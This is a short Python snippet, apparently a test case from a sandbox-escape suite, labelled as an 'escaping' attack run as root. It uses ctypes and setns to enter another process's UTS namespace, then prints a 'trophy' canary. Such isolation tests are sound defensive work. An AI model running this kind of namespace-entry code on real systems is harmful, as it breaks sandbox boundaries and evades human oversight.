# attack: enters the namespaces of another process | class: escaping | canary: claim | as: root
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
namespace = os.open(f"/proc/{target.pid}/ns/uts", os.O_RDONLY)
if libc.setns(namespace, 0):
    raise OSError(ctypes.get_errno(), "setns")
print(target.trophy)
